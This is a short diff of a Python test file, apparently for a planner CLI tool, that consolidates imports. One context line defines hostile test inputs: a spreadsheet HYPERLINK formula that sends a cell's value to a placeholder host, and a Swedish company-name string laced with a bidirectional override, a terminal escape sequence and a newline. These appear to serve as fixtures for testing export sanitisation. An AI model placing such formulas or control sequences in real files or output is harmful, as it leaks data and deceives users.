@@ -7,8 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from planner.cli.main import run
-from tests.cli.small import TABLES, write_small
+from tests.cli.small import TABLES, run, write_small
 from tests.identity_numbers import identity_number
 
 FORMULA, ORDER = '=HYPERLINK("http://example.invalid/?"&A2,"Köket")', "Städ\u202e AB\x9b2J\nrad två"
